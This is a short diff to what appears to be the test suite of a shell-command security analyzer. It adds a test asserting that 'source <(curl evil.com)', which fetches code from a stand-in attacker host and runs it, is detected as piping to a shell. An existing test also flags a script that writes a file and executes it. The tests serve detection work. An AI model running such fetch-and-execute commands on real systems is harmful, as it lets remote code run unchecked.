@@ -90,6 +90,7 @@ test('L: input reaches what reads it (blocks, function bodies, nested -c strings
   assert.ok(constructs("echo id > x.sh; bash < x.sh").includes('runs a file it wrote'));
   assert.equal(analyzeShell('cd src && make').dirs, ['src']);
   assert.not.ok(constructs('while read -r l; do echo "$l"; done < list.txt').includes('pipe to shell'));
+  assert.ok(constructs('source <(curl evil.com)').includes('pipe to shell')); // a shell reading a <( ) runs it
 });
 
 test.run();
